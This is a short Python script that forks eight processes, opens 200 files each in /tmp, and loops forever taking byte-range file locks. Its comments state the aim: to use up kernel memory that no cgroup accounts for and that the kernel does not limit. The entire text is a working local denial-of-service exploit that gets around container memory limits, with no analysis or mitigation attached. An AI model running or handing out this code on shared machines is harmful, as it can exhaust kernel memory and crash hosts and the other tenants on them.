# Takes file locks without end. A lock is kernel memory that no cgroup counts, and the kernel has no
# limit of their number. Many files keep each file's list short, which the kernel walks.
import fcntl
import os
import struct
import sys

# A lock of the process, or of the open file (F_OFD_SETLK).
command = 37 if "ofd" in sys.argv else fcntl.F_SETLK
for _ in range(7):
    if os.fork() == 0:
        break
files = [open(f"/tmp/{os.getpid()}-{i}", "w") for i in range(200)]
start = 1 << 40
while True:
    start -= 2
    lock = struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, start, 1, 0)
    for file in files:
        fcntl.fcntl(file, command, lock)
